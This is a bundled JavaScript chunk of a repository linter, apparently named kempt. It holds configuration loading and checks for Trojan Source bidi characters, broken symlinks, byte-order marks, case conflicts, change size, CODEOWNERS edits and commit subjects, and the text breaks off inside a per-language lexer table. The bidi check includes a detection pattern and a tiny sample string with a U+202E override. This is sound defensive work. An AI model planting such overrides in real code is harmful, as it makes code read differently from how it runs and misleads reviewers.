export const id = 756;
export const ids = [756];
export const modules = {

/***/ 1155:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  z: () => (/* binding */ check)
});

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(3024);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(6760);
// EXTERNAL MODULE: ./lib/domain/errors.js
var errors = __webpack_require__(9285);
;// CONCATENATED MODULE: ./lib/config/load.js



/** Where a configuration is looked for, in this order, from the top of the repository. */
const configNames = ['kempt.yaml', '.kempt.yaml', '.github/kempt.yaml', 'kempt.toml'];
/**
 * Loads the configuration of the repository at `top`, or the file named. Undefined if there is none: what the
 * repository contains decides. Throws a {@link UserError} that names file, line and column.
 */
async function loadConfig(top, named, checks) {
    const found = named === undefined ? findConfig(top) : (0,external_node_path_.resolve)(named);
    if (found === undefined)
        return undefined;
    if (!(0,external_node_fs_.existsSync)(found))
        throw new errors/* UserError */.y(`There is no configuration at ${found}`, 'Check the path behind --config.');
    const { parseConfigFile } = await Promise.all(/* import() */[__webpack_require__.e(815), __webpack_require__.e(873), __webpack_require__.e(641)]).then(__webpack_require__.bind(__webpack_require__, 7641));
    return parseConfigFile(found, checks);
}
function findConfig(top) {
    const found = configNames.filter((name) => (0,external_node_fs_.existsSync)((0,external_node_path_.join)(top, name)));
    if (found.length > 1) {
        throw new errors/* UserError */.y(`There are several configurations: ${found.join(', ')}`, 'Keep one of them.');
    }
    return found[0] === undefined ? undefined : (0,external_node_path_.join)(top, found[0]);
}

// EXTERNAL MODULE: ./lib/domain/nearest.js
var nearest = __webpack_require__(5542);
;// CONCATENATED MODULE: ./lib/config/settings.js


const defaultMaxSize = 32 * 1024 * 1024;
/** Merges defaults, configuration and command line, the later winning. */
async function toSettings(config, overrides, all) {
    refuseUnknown([...(overrides.only ?? []), ...(overrides.skip ?? [])], all);
    const glob = config ? (await Promise.all(/* import() */[__webpack_require__.e(6), __webpack_require__.e(5)]).then(__webpack_require__.bind(__webpack_require__, 7005))).toMatcher : () => () => false;
    const checks = [];
    const skipped = [];
    for (const check of all) {
        const setting = (config?.checks?.[check.id] ?? undefined);
        const reason = whyOff(check, setting, overrides);
        if (reason === undefined)
            checks.push(toCheckSetting(check, setting, glob));
        else
            skipped.push({ check, reason });
    }
    const files = config?.files;
    return {
        checks,
        skipped,
        includes: toFilter(files?.include, files?.exclude, glob),
        maxSize: files?.['max-size'] ?? defaultMaxSize,
        everything: overrides.everything ?? files?.everything ?? false,
        onlyNew: overrides.onlyNew ?? config?.['only-new'] ?? true,
        failOn: overrides.failOn ?? config?.['fail-on'] ?? 'warning',
        baseline: overrides.baseline ?? config?.baseline,
        cache: overrides.cache ?? config?.cache ?? true,
    };
}
function whyOff(check, setting, { only, skip }) {
    if (skip?.includes(check.id))
        return 'left out by --skip';
    if (only !== undefined)
        return only.includes(check.id) ? undefined : 'left out by --only';
    if (setting === false || setting === 'off')
        return 'turned off in the configuration';
    return check.optIn && setting === undefined ? 'runs only if the configuration asks for it' : undefined;
}
function toCheckSetting(check, setting, glob) {
    const given = typeof setting === 'object' ? setting : {};
    const level = typeof setting === 'string' && setting !== 'on' && setting !== 'off' ? setting : given.level;
    const options = Object.entries(check.options ?? {}).map(([name, spec]) => [name, given[name] ?? spec.default]);
    const excluded = given.exclude && given.exclude.length > 0 ? glob(given.exclude) : undefined;
    return {
        check,
        level,
        options: Object.fromEntries(options),
        excludes: (path) => excluded?.(path) ?? false,
    };
}
function toFilter(include, exclude, glob) {
    if (!include?.length && !exclude?.length)
        return undefined;
    const wanted = include?.length ? glob(include) : undefined;
    const unwanted = exclude?.length ? glob(exclude) : undefined;
    return (path) => (wanted?.(path) ?? true) && !unwanted?.(path);
}
function refuseUnknown(ids, all) {
    const known = all.map((check) => check.id);
    for (const id of ids) {
        if (known.includes(id))
            continue;
        const hint = (0,nearest/* nearest */.p)(id, known);
        throw new errors/* UserError */.y(`There is no check ${id}`, hint ? `Did you mean ${hint}?` : 'kempt explain lists the checks.');
    }
}

// EXTERNAL MODULE: ./lib/domain/version.gen.js
var version_gen = __webpack_require__(5064);
// EXTERNAL MODULE: ./lib/lib/baseline-file.js
var baseline_file = __webpack_require__(7687);
// EXTERNAL MODULE: ./lib/domain/facts.js
var facts = __webpack_require__(5503);
// EXTERNAL MODULE: ./lib/domain/file-type.js
var file_type = __webpack_require__(7889);
;// CONCATENATED MODULE: ./lib/modules/checks/check.js
/** Gives `run` its options' types. */
function fileCheck(check) {
    return check;
}
function treeCheck(check) {
    return check;
}
function changeCheck(check) {
    return check;
}

;// CONCATENATED MODULE: ./lib/modules/checks/bidirectional-control.js



const bidirectionalControl = fileCheck({
    id: 'bidirectional-control',
    scope: 'file',
    summary: 'Characters that make code read differently from how it runs (Trojan Source)',
    level: 'error',
    facts: facts/* Fact */.d.nonAscii,
    except: file_type/* FileType */.pt.generated,
    source: 'https://www.unicode.org/reports/tr55/#Bidirectional-Ordering',
    docs: `Embeddings, overrides and isolates reorder what is shown of a line, so that a comment may look like code and the
other way round (CVE-2021-42574). They are reported where a line leaves one open, or has an override; text in
right-to-left scripts needs none of them. The marks U+200E and U+200F, which reorder nothing, are left alone, and so are
isolates and embeddings that are closed on their line in Markdown and other prose.`,
    examples: [
        { title: 'An override', files: { 'a.js': 'if (access !== "user\u202e") {\n}\n' }, findings: ['a.js:1'] },
        { title: 'Hebrew', files: { 'a.js': 'const name = "\u05e9\u05dc\u05d5\u05dd";\n' }, findings: [] },
    ],
    run(file, report) {
        if (!mayHaveControls(file.buffer, file.length))
            return;
        const prose = (file.types & file_type/* FileType */.pt.markdown) !== 0 || /\.(?:txt|rst|adoc|po|html?)$/i.test(file.path);
        for (let line = 0; line < file.lineStarts().length; line++) {
            const text = file.line(line);
            const match = controls.exec(text);
            if (match === null || (prose && isBalanced(text)))
                continue;
            report({
                message: `The character ${bidirectional_control_name(match[0])} reorders what is shown of this line`,
                at: { offset: file.lineStarts()[line] + Buffer.byteLength(text.slice(0, match.index)), length: 3 },
                snippet: text.replace(new RegExp(controls, 'g'), (control) => `<${bidirectional_control_name(control)}>`),
            });
        }
    },
});
/** U+202A to U+202E and U+2066 to U+2069 are E2 80 AA to AE and E2 81 A6 to A9 in UTF-8. */
function mayHaveControls(buffer, length) {
    for (let i = buffer.indexOf(0xe2); i >= 0 && i + 2 < length; i = buffer.indexOf(0xe2, i + 1)) {
        const last = buffer[i + 2];
        if (buffer[i + 1] === 0x80 && last >= 0xaa && last <= 0xae)
            return true;
        if (buffer[i + 1] === 0x81 && last >= 0xa6 && last <= 0xa9)
            return true;
    }
    return false;
}
const controls = /[\u202a-\u202e\u2066-\u2069]/;
function bidirectional_control_name(character) {
    return `U+${character.charCodeAt(0).toString(16).toUpperCase()}`;
}
/** Whether every embedding and isolate of the line is closed on it, and it has no override. */
function isBalanced(text) {
    if (/[\u202d\u202e]/.test(text))
        return false;
    const open = [];
    for (const control of text.match(new RegExp(controls, 'g')) ?? []) {
        if (control === '\u202c' || control === '\u2069') {
            if (open.pop() !== control)
                return false;
        }
        else {
            open.push(control >= '\u2066' ? '\u2069' : '\u202c');
        }
    }
    return open.length === 0;
}

// EXTERNAL MODULE: ./lib/domain/entry.js
var domain_entry = __webpack_require__(5676);
// EXTERNAL MODULE: ./lib/domain/path.js
var domain_path = __webpack_require__(7061);
;// CONCATENATED MODULE: ./lib/modules/checks/broken-symlink.js



const brokenSymlink = treeCheck({
    id: 'broken-symlink',
    scope: 'tree',
    summary: 'Symbolic links that lead nowhere',
    level: 'error',
    docs: `The target of the link does not exist, or the link leads to itself. A link to an absolute path, or out of the
repository, works on one machine only and is reported too.`,
    examples: [
        {
            title: 'A target that is gone',
            files: { 'a.txt': 'x\n', 'folder/good': { content: '../a.txt', mode: 0o120000 }, bad: { content: 'b.txt', mode: 0o120000 } },
            findings: ['bad'],
        },
        { title: 'Out of the repository', files: { out: { content: '/etc/hosts', mode: 0o120000 } }, findings: ['out'] },
    ],
    run(tree, report) {
        for (const entry of tree.candidates) {
            const target = entry.mode === domain_entry/* Mode */.K.symlink ? tree.linkTarget(entry) : undefined;
            if (target === undefined)
                continue;
            const message = problemOf(target, entry.path, (path) => tree.exists(path));
            if (message !== undefined)
                report(entry.path, { message });
        }
    },
});
function problemOf(target, path, exists) {
    const shown = JSON.stringify(target);
    if (/^(?:[\\/]|[A-Za-z]:)/.test(target))
        return `The link leads to the absolute path ${shown}`;
    if (climbsOut(target, (0,domain_path/* dirName */.BB)(path)))
        return `The link leads out of the repository, to ${shown}`;
    return exists(path === '' ? target : `${(0,domain_path/* dirName */.BB)(path) || '.'}/${target}`) ? undefined : `The link leads to ${shown}, which does not exist`;
}
function climbsOut(target, folder) {
    let depth = folder === '' ? 0 : folder.split('/').length;
    for (const part of target.split('/')) {
        if (part === '..')
            depth--;
        else if (part !== '.' && part !== '')
            depth++;
        if (depth < 0)
            return true;
    }
    return false;
}

;// CONCATENATED MODULE: ./lib/modules/checks/byte-order-mark.js



const byteOrderMark = fileCheck({
    id: 'byte-order-mark',
    scope: 'file',
    summary: 'A UTF-8 byte-order mark at the start of a file',
    level: 'warning',
    facts: facts/* Fact */.d.byteOrderMark,
    except: file_type/* unkempt */.rV,
    source: 'https://www.unicode.org/faq/utf_bom.html#bom5',
    docs: `UTF-8 needs no byte-order mark, and many readers do not expect one: a shebang line behind it is not
recognised, and JSON with it is invalid (RFC 8259, section 8.1). Formats whose own tools write the mark are left alone:
the project files of Visual Studio, PowerShell, and CSV for Excel.`,
    examples: [
        { title: 'In front of code', files: { 'a.py': '\uFEFFx = 1\n' }, findings: ['a.py:1'], fixed: { 'a.py': 'x = 1\n' } },
        { title: 'Written by Visual Studio', files: { 'a.csproj': '\uFEFF<Project />\n' }, findings: [] },
    ],
    run(file, report) {
        if (customary.test(file.path))
            return;
        const at = { offset: 0, length: 3 };
        report({
            message: 'The file begins with a byte-order mark',
            at,
            fix: { description: 'Remove it', edits: [{ ...at, text: '' }] },
        });
    },
});
const customary = /\.(?:sln|\w+proj|props|targets|resx|cs|vb|fs|cshtml|razor|xaml|config|rc|ps1|psm1|psd1|csv|nuspec|vsixmanifest)$/i;

;// CONCATENATED MODULE: ./lib/modules/checks/case-conflict.js

const caseConflict = treeCheck({
    id: 'case-conflict',
    scope: 'tree',
    summary: 'Names that differ in nothing but case',
    level: 'error',
    docs: `macOS and Windows cannot have both \`Readme.md\` and \`README.md\` in one folder: one of them overwrites the other
on checkout, and the clone is dirty from the start. Names of folders count too.`,
    examples: [
        { title: 'Two files', files: { 'README.md': 'a\n', 'Readme.md': 'b\n' }, findings: ['README.md', 'Readme.md'] },
        { title: 'Two folders', files: { 'Docs/a.md': 'a\n', 'docs/b.md': 'b\n' }, findings: ['Docs/a.md', 'docs/b.md'] },
        { title: 'The same name in two folders', files: { 'a/x': '1\n', 'b/X': '2\n' }, findings: [] },
    ],
    run(tree, report) {
        const known = new Map();
        const clashes = new Map();
        let lastFolder = '';
        for (const { path } of tree.entries) {
            const folder = path.slice(0, path.lastIndexOf('/') + 1);
            if (folder !== lastFolder)
                addFolders(folder, path, known, clashes);
            lastFolder = folder;
            add(path, path, known, clashes);
        }
        const candidates = clashes.size > 0 ? new Set(tree.candidates.map((entry) => entry.path)) : undefined;
        for (const [path, other] of [...clashes].sort()) {
            if (candidates?.has(path))
                report(path, { message: `The name differs from ${other} in nothing but case` });
        }
    },
});
function addFolders(folder, file, known, clashes) {
    for (let end = folder.indexOf('/'); end >= 0; end = folder.indexOf('/', end + 1)) {
        add(folder.slice(0, end + 1), file, known, clashes);
    }
}
function add(name, file, known, clashes) {
    const folded = name.toLowerCase();
    const first = known.get(folded);
    if (first === undefined) {
        known.set(folded, { name, file });
    }
    else if (first.name !== name) {
        if (!clashes.has(first.file))
            clashes.set(first.file, name);
        if (!clashes.has(file))
            clashes.set(file, first.name);
    }
}

;// CONCATENATED MODULE: ./lib/modules/checks/change/paths.js

const generatedName = /(?:\.min\.\w+|\.lockb?|\.lockfile|\.snap|\.pb\.(?:go|cc|h)|_pb2(?:_grpc)?\.pyi?|\.g\.(?:dart|cs)|\.designer\.cs|\.resolved|[._-]generated\.\w+)$/i;
const generatedFolder = /(?:^|\/)(?:__snapshots__|snapshots|generated|__generated__)\//i;
const vendored = /(?:^|\/)(?:vendor|vendored|third[_-]party|node_modules|bower_components|\.yarn|Pods|Carthage)\//;
const testFolder = /(?:^|\/)(?:tests?|\w+-tests?|__tests__|specs?|e2e|cypress|androidTest|(?:integration|unit|system)-?[Tt]ests?)\//;
const testName = /(?:[._-](?:test|spec|cy|e2e|test-d|tst)\.[cm]?[jt]sx?|_(?:test|spec)\.\w+|(?:^|\/)test_[^/]*\.py|(?:^|\/)(?:conftest|tests)\.py|(?:Tests?|TestCase|IT|Specs?)\.(?:java|kt|scala|groovy|cs|php|swift))$/;
const fixture = /(?:^|\/)(?:__fixtures__|[\w-]*fixtures?|__mocks__|mocks?|testdata|test[-_]data|__testdata__|__snapshots__|snapshots|goldens?|stubs?)\//i;
const example = /(?:^|\/)(?:examples?|samples?|demos?|docs?|documentation|tutorials?|playground|_*bench(?:mark)?s?_*)\//i;
/** Written by a tool: a lock file, a snapshot, a bundle, code from an interface description. */
function isGenerated(path) {
    return ((0,file_type/* fileTypes */.Ko)(path) & file_type/* FileType */.pt.generated) !== 0 || generatedName.test(path) || generatedFolder.test(path);
}
/** A copy of somebody else's files. */
function isVendored(path) {
    return vendored.test(path);
}
/** Input of tests, not tests. */
function isFixture(path) {
    return fixture.test(path);
}
/** A test, by the conventions of its language for names and folders. */
function isTest(path) {
    return testName.test(path) || testFolder.test(path);
}
/** Shows how something is used, and is not part of the product. */
function isExample(path) {
    return example.test(path);
}
/** The folders of `path`, innermost first, each with a `/` behind it; the last is empty, the top. */
function foldersUp(path) {
    const folders = [];
    for (let end = path.lastIndexOf('/'); end >= 0; end = path.lastIndexOf('/', end - 1))
        folders.push(path.slice(0, end + 1));
    folders.push('');
    return folders;
}

;// CONCATENATED MODULE: ./lib/modules/checks/change-size.js


const changeSize = changeCheck({
    scope: 'change',
    id: 'change-size',
    summary: 'A change that is too large to be read with care',
    level: 'note',
    docs: `The more lines a change has, the less of each is read. A change in several steps is reviewed sooner and better.

Added and removed lines count. Files that nobody reads do not: lock files, generated code, snapshots, minified bundles,
vendored folders, fixtures of tests, binary files. Neither do pure renames and deleted files.

Split the change: what can go in first (a refactoring, a new interface, a renaming) is a change of its own.`,
    source: 'https://google.github.io/eng-practices/review/developer/small-cls.html',
    options: {
        'max-lines': { type: 'integer', default: 1000, summary: 'Added and removed lines together; 0: no limit' },
        'max-files': { type: 'integer', default: 100, summary: 'Changed files; 0: no limit' },
    },
    examples: [
        {
            title: 'more lines than the limit',
            options: { 'max-lines': 3 },
            files: { 'a.txt': '1\n', 'b.txt': '1\n2\n3\n' },
            findings: ['b.txt'],
        },
        {
            title: 'more files than the limit',
            options: { 'max-files': 1 },
            files: { 'a.txt': '1\n', 'b.txt': '1\n2\n' },
            findings: ['b.txt'],
        },
        {
            title: 'lock files, snapshots and deleted files do not count',
            options: { 'max-lines': 3 },
            base: { 'old.txt': '1\n2\n3\n4\n5\n' },
            files: { 'yarn.lock': '1\n2\n3\n4\n', 'a.test.ts.snap': '1\n2\n3\n4\n', 'a.txt': '1\n2\n3\n' },
            findings: [],
        },
    ],
    run(change, report, options) {
        const files = change.files
            .filter(counts)
            .map(size)
            .sort((a, b) => b.lines - a.lines);
        const lines = files.reduce((sum, file) => sum + file.lines, 0);
        const tooLong = exceeds(lines, options['max-lines']);
        if (files[0] === undefined || (!tooLong && !exceeds(files.length, options['max-files'])))
            return;
        const limit = tooLong ? `${options['max-lines']} lines` : `${options['max-files']} files`;
        const largest = files.slice(0, 3).map((file) => `${file.path} (${file.lines})`);
        const where = `${files.length} ${files.length === 1 ? 'file' : 'files'}`;
        const message = `the change has ${lines} lines in ${where}, more than ${limit}; the largest: ${largest.join(', ')}`;
        report(files[0].path, { message });
    },
});
function exceeds(count, limit) {
    return limit > 0 && count > limit;
}
function counts({ path, status, hunks }) {
    if (status === 'deleted' || hunks.length === 0)
        return false;
    return !isGenerated(path) && !isVendored(path) && !isFixture(path);
}
function size({ path, hunks }) {
    return { path, lines: hunks.reduce((sum, hunk) => sum + hunk.baseCount + hunk.headCount, 0) };
}

;// CONCATENATED MODULE: ./lib/modules/checks/codeowners-change.js

const ownersFile = /^(?:\.github\/|docs\/|\.gitlab\/)?CODEOWNERS$/;
const codeownersChange = changeCheck({
    scope: 'change',
    id: 'codeowners-change',
    summary: 'The change alters who must approve changes',
    level: 'note',
    docs: `The rules in \`CODEOWNERS\` decide whose approval a change needs. A line in a long change can take a folder away
from its owners, so the change of the file is worth a look of its own.

The places where GitHub and GitLab look for the file count: the top, \`.github/\`, \`.gitlab/\` and \`docs/\`. Comments and
empty lines are left alone. A rule without an owner, which lets everybody approve, is a warning.

There is nothing to mend where the change is meant. To have it guarded, give \`CODEOWNERS\` an owner itself.`,
    source: 'https://docs.github.com/en/repositories/managing-your-repositorys-settings-and-features/customizing-your-repository/about-code-owners',
    examples: [
        {
            title: 'a new rule, and a path that nobody owns any more',
            base: { '.github/CODEOWNERS': '* @all\n' },
            files: { '.github/CODEOWNERS': '* @all\n/lib/ @lib\n/ci/\n' },
            findings: ['.github/CODEOWNERS:2', '.github/CODEOWNERS:3'],
        },
        {
            title: 'the file is gone',
            base: { CODEOWNERS: '* @all\n' },
            files: { 'a.txt': 'a\n' },
            findings: ['CODEOWNERS'],
        },
        {
            title: 'a comment, or a file of that name elsewhere',
            base: { CODEOWNERS: '* @all\n' },
            files: { CODEOWNERS: '# Everybody.\n\n* @all\n', 'test/CODEOWNERS': '* @all\n' },
            findings: [],
        },
    ],
    run(change, report) {
        for (const file of change.files) {
            const { path, status, hunks } = file;
            if (!ownersFile.test(path))
                continue;
            if (status === 'deleted') {
                report(path, { level: 'warning', message: 'the file is deleted: no owner is asked any more' });
                continue;
            }
            const rules = hunks.flatMap((hunk) => hunk.added.map((text, index) => ({ text, line: hunk.headStart + index })));
            // Under a section of GitLab's, a path without owners has those of the section.
            const sections = /^\^?\[/m.test(change.text(file) ?? '');
            const added = rules.filter(({ text }) => isRule(text));
            const ownerless = sections ? [] : added.filter(({ text }) => /^\s*\S+\s*$/.test(text));
            const removing = hunks.find((hunk) => hunk.baseCount > hunk.headCount);
            const line = added[0]?.line ?? (removing === undefined ? undefined : Math.max(1, removing.headStart));
            if (line !== undefined && line !== ownerless[0]?.line)
                report(path, { line, message: 'the change alters who must approve changes' });
            for (const rule of ownerless)
                report(path, { line: rule.line, level: 'warning', message: 'this path has no owner: nobody is asked' });
        }
    },
});
/** Neither empty, nor a comment, nor the head of one of GitLab's sections. */
function isRule(text) {
    return !/^\s*(?:$|#|\^?\[)/.test(text);
}

;// CONCATENATED MODULE: ./lib/modules/checks/commit-subject.js

const commit_subject_form = /^(?<type>[\p{L}\d_-]+)(?:\((?<scope>[^()\n]+)\))?!?: (?<text>\S.*)$/u;
// What git and the forges write themselves.
const written = /^(?:Merge (?:branch|remote-tracking branch|pull request|tag|commit)|Revert "|Reapply "|Initial commit$)/;
const fixup = /^(?:fixup|squash|amend)! /;
const commitSubject = changeCheck({
    scope: 'change',
    id: 'commit-subject',
    summary: 'A commit whose subject does not follow Conventional Commits',
    level: 'warning',
    optIn: true,
    docs: `With subjects of one form, change logs and version numbers can be made by a program.

Each commit of the change is judged by its subject: \`type(scope): text\`, with an optional \`!\` for a breaking change.
Types are compared without regard to case, as the specification asks. Subjects that git writes itself (\`Merge branch\`,
\`Revert "…"\`) are left alone. A \`fixup!\` or \`squash!\` commit is reported, because it is to be folded into another one
before the change is merged; allow it where changes are squashed on merging.

Reword the commit: \`git rebase -i\`, or \`git commit --amend\` for the last one.`,
    source: 'https://www.conventionalcommits.org/en/v1.0.0/',
    options: {
        types: {
            type: 'strings',
            default: ['build', 'chore', 'ci', 'docs', 'feat', 'fix', 'perf', 'refactor', 'revert', 'style', 'test'],
            summary: 'The types that are allowed; empty: any',
        },
        scopes: { type: 'strings', default: [], summary: 'The scopes that are allowed; empty: any' },
        'max-length': { type: 'integer', default: 100, summary: 'Characters of a subject; 0: no limit' },
        'allow-fixups': { type: 'boolean', default: false, summary: 'Allow `fixup!`, `squash!` and `amend!` commits' },
    },
    examples: [
        { title: 'no type', subject: 'Add sums', files: { 'a.txt': 'a\n' }, findings: ['. form'] },
        { title: 'an unknown type', subject: 'feet(sum): add sums', files: { 'a.txt': 'a\n' }, findings: ['. type'] },
        {
            title: 'a scope that is not on the list',
            subject: 'feat(sums): add sums',
            options: { scopes: ['sum'] },
            files: { 'a.txt': 'a\n' },
            findings: ['. scope'],
        },
        {
            title: 'too long',
            subject: 'feat: add sums',
            options: { 'max-length': 10 },
            files: { 'a.txt': 'a\n' },
            findings: ['. length'],
        },
        {
            title: 'a commit that waits for its squash',
            subject: 'fixup! feat: add sums',
            files: { 'a.txt': 'a\n' },
            findings: ['. fixup'],
        },
        { title: 'a breaking change', subject: 'feat(sum)!: add sums', files: { 'a.txt': 'a\n' }, findings: [] },
        { title: 'a merge', subject: "Merge branch 'main' into sums", files: { 'a.txt': 'a\n' }, findings: [] },
    ],
    run(change, report, options) {
        const types = new Set(options.types.map((type) => type.toLowerCase()));
        const scopes = new Set(options.scopes);
        const judge = (subject) => {
            if (written.test(subject))
                return undefined;
            if (fixup.test(subject))
                return options['allow-fixups'] ? undefined : ['fixup', 'is to be squashed before the change is merged'];
            const { type, scope } = commit_subject_form.exec(subject)?.groups ?? {};
            if (type === undefined)
                return ['form', 'is not of the form `type(scope): text`'];
            if (types.size > 0 && !types.has(type.toLowerCase()))
                return ['type', `has the type \`${type}\`, not one of ${options.types.join(', ')}`];
            const unknown = scopes.size > 0 ? scope?.split(/\s*[,/]\s*/).find((name) => !scopes.has(name)) : undefined;
            if (unknown !== undefined)
                return ['scope', `has the scope \`${unknown}\`, not one of ${options.scopes.join(', ')}`];
            const length = [...subject].length;
            if (options['max-length'] > 0 && length > options['max-length'])
                return ['length', `has ${length} characters, more than ${options['max-length']}`];
            return undefined;
        };
        for (const { commit, subject } of change.subjects) {
            const verdict = judge(subject);
            if (verdict === undefined)
                continue;
            const [rule, problem] = verdict;
            report('.', { rule, message: `the subject of ${commit.slice(0, 10)} ${problem}: "${subject}"` });
        }
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/change/lex.js
/** What a character belongs to. Of a string, only the content: its quotes count as code. */
const Kind = { code: 0, string: 1, comment: 2 };
/**
 * Tells code from comments and strings. It is no parser: what it misreads (an odd literal of a language) stays
 * within a line wherever the language allows that, so that one misreading does not spoil the rest of the file.
 */
function lexText(text, syntax) {
    const kinds = new Uint8Array(text.length);
    const starts = [0];
    for (let at = text.indexOf('\n'); at >= 0; at = text.indexOf('\n', at + 1))
        starts.push(at + 1);
    new Scanner(text, syntax, kinds).scan();
    const only = (line, kind) => {
        const start = starts[line - 1];
        if (start === undefined)
            return '';
        const end = (starts[line] ?? text.length + 1) - 1;
        let result = '';
        for (let at = start; at < end; at++)
            result += kinds[at] === kind ? text[at] : ' ';
        return result;
    };
    return {
        lines: starts.length,
        code: (line) => only(line, Kind.code),
        comment: (line) => only(line, Kind.comment),
    };
}
class Scanner {
    #text;
    #syntax;
    #kinds;
    #openers;
    /** Names that end the here-documents opened on this line. */
    #heredocs = [];
    #at = 0;
    constructor(text, syntax, kinds) {
        this.#text = text;
        this.#syntax = syntax;
        this.#kinds = kinds;
        const blocks = syntax.blockComments.map(([open]) => open);
        const strings = syntax.strings.map(({ open }) => open);
        this.#openers = new Set([...syntax.lineComments, ...blocks, ...strings, "'", '/', '<', '\\', '\n'].map((s) => s[0]));
    }
    scan() {
        while (this.#at < this.#text.length) {
            if (!this.#openers.has(this.#text[this.#at]) || !this.#open())
                this.#at++;
        }
    }
    /** Steps over what begins here, if anything does that is not code. */
    #open() {
        const { blockComments, strings, escapes } = this.#syntax;
        if (this.#text[this.#at] === '\n' && this.#heredocs.length > 0)
            return this.#heredocBodies();
        for (const [open, close] of blockComments) {
            if (this.#text.startsWith(open, this.#at))
                return this.#mark(Kind.comment, this.#find(close, this.#at + open.length, close.length));
        }
        if (this.#beginsLineComment())
            return this.#mark(Kind.comment, this.#find('\n', this.#at, 0));
        for (const kind of strings)
            if (this.#text.startsWith(kind.open, this.#at))
                return this.#string(kind);
        if (escapes && this.#text[this.#at] === '\\')
            return this.#skip(2);
        return this.#beginsHeredoc() || this.#character() || this.#regex();
    }
    #beginsLineComment() {
        const { lineComments, blankBeforeComment } = this.#syntax;
        if (!lineComments.some((open) => this.#text.startsWith(open, this.#at)))
            return false;
        return !blankBeforeComment || this.#at === 0 || /\s/.test(this.#text[this.#at - 1]);
    }
    #beginsHeredoc() {
        const { heredoc } = this.#syntax;
        if (heredoc === undefined || this.#text[this.#at] !== '<')
            return false;
        heredoc.lastIndex = this.#at;
        const match = heredoc.exec(this.#text);
        if (match === null)
            return false;
        this.#heredocs.push(match[1]);
        return this.#skip(match[0].length);
    }
    #heredocBodies() {
        for (const name of this.#heredocs) {
            const end = new RegExp(`\\n[ \\t]*${name}\\b`, 'g');
            end.lastIndex = this.#at;
            const match = end.exec(this.#text);
            // Without its last line it is rather a shift or an append that was taken for a here-document.
            if (match !== null)
                this.#mark(Kind.string, match.index);
        }
        this.#heredocs = [];
        return this.#skip(1);
    }
    #string(kind) {
        const start = this.#at + kind.open.length;
        const end = this.#stringEnd(kind, start);
        this.#kinds.fill(Kind.string, start, end);
        this.#at = this.#text.startsWith(kind.close, end) ? end + kind.close.length : end;
        return true;
    }
    #stringEnd(kind, start) {
        const text = this.#text;
        for (let at = start; at < text.length; at++) {
            if (kind.escapes && text[at] === '\\')
                at++;
            else if (text.startsWith(kind.close, at))
                return at;
            else if (!kind.multiline && text[at] === '\n')
                return at;
            else if (kind.holes && text.startsWith('${', at))
                at = this.#holeEnd(kind, at + 2);
        }
        return text.length;
    }
    /** Where the `}` is that ends the hole of a template; templates and braces within it are stepped over. */
    #holeEnd(kind, start) {
        const text = this.#text;
        let depth = 0;
        for (let at = start; at < text.length; at++) {
            if (text[at] === '{')
                depth++;
            else if (text[at] === '}' && depth-- === 0)
                return at;
            else if (text[at] === kind.open)
                at = this.#stringEnd(kind, at + 1);
            else if (text[at] === '"' || text[at] === "'") {
                const closed = text.indexOf(text[at], at + 1);
                if (closed > 0 && !text.slice(at, closed).includes('\n'))
                    at = closed;
            }
        }
        return text.length;
    }
    #character() {
        if (!this.#syntax.characters || this.#text[this.#at] !== "'")
            return false;
        const literal = /'(?:\\[^\n']*.|[^\\\n])'/uy;
        literal.lastIndex = this.#at;
        const match = literal.exec(this.#text);
        if (match === null)
            return false;
        this.#kinds.fill(Kind.string, this.#at + 1, this.#at + match[0].length - 1);
        return this.#skip(match[0].length);
    }
    #regex() {
        if (!this.#syntax.regexes || this.#text[this.#at] !== '/')
            return false;
        const before = this.#text.slice(Math.max(0, this.#at - 24), this.#at).trimEnd();
        if (!/(?:^|[=([{,;:!&|?+~<>]|\b(?:return|typeof|case|when|if|unless|and|or|in|of))$/.test(before))
            return false;
        const literal = /\/(?:\\.|\[(?:\\.|[^\]\\\n])*\]|[^/\\[\n])+\//y;
        literal.lastIndex = this.#at;
        const match = literal.exec(this.#text);
        if (match === null)
            return false;
        this.#kinds.fill(Kind.string, this.#at + 1, this.#at + match[0].length - 1);
        return this.#skip(match[0].length);
    }
    /** Where `what` is, `plus` characters further; the end of the text if it is not there. */
    #find(what, from, plus) {
        const at = this.#text.indexOf(what, from);
        return at < 0 ? this.#text.length : at + plus;
    }
    #mark(kind, end) {
        this.#kinds.fill(kind, this.#at, end);
        this.#at = end;
        return true;
    }
    #skip(count) {
        this.#at += count;
        return true;
    }
}

;// CONCATENATED MODULE: ./lib/modules/checks/change/syntax.js
const quoted = (quote, multiline = false) => ({
    open: quote,
    close: quote,
    escapes: true,
    multiline,
});
const raw = (open, close = open) => ({ open, close, escapes: false, multiline: true });
const syntax_double = quoted('"');
const single = quoted("'");
const tripled = quoted('"""', true);
const template = { ...quoted('`', true), holes: true };
const slashes = { lineComments: ['//'], blockComments: [['/*', '*/']] };
const hash = { lineComments: ['#'], blockComments: [] };
const hashAfterBlank = { ...hash, blankBeforeComment: true, strings: [syntax_double, single] };
const dashes = { lineComments: ['--'], blockComments: [], strings: [syntax_double, single] };
const markup = { lineComments: [], blockComments: [['<!--', '-->']], strings: [] };
// What a component file holds as script is read for its comments only: its text is full of apostrophes.
const component = {
    lineComments: ['//'],
    blockComments: [...markup.blockComments, ...slashes.blockComments],
    strings: [],
    blankBeforeComment: true,
};
const jvm = { ...slashes, strings: [tripled, syntax_double, single] };
const c = { ...slashes, language: 'c', strings: [syntax_double], characters: true };
const css = { ...slashes, language: 'css', lineComments: [], strings: [syntax_double, single] };
const javascript = { ...slashes, language: 'javascript', strings: [syntax_double, single, template], regexes: true };
const python = { ...hash, language: 'python', strings: [tripled, quoted("'''", true), syntax_double, single] };
const shell = {
    ...hashAfterBlank,
    language: 'shell',
    strings: [quoted('"', true), raw("'")],
    heredoc: /<<-?\s*\\?["']?([A-Za-z_]\w*)["']?/y,
    escapes: true,
};
const ruby = {
    ...hash,
    language: 'ruby',
    blockComments: [['\n=begin', '\n=end']],
    strings: [syntax_double, single, quoted('`')],
    regexes: true,
    heredoc: /<<(?:[~-]["'`]?|["'`]?(?=[A-Z]))([A-Za-z_]\w*)["'`]?/y,
};
const php = {
    ...slashes,
    language: 'php',
    lineComments: ['//', '# ', '#\n'],
